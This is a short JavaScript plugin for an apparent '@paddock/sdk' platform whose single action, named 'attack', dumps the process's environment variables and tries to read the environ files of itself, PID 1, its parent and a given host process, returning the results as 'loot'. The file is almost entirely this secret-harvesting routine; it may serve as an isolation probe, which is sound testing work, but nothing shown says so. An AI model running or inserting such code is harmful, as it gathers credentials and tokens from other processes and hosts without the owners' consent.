import { readFileSync } from "node:fs";
import { definePlugin } from "@paddock/sdk";

export default definePlugin({
  actions: {
    attack({ host }) {
      const loot = [JSON.stringify(process.env)];
      const refused = [];
      for (const pid of ["self", 1, process.ppid, host]) {
        try {
          loot.push(readFileSync(`/proc/${pid}/environ`, "utf8").slice(0, 10_000));
        } catch (error) {
          refused.push(`open /proc/${pid === host ? "HOST" : pid}/environ: ${error.code}`);
        }
      }
      return { loot, refused };
    },
  },
});
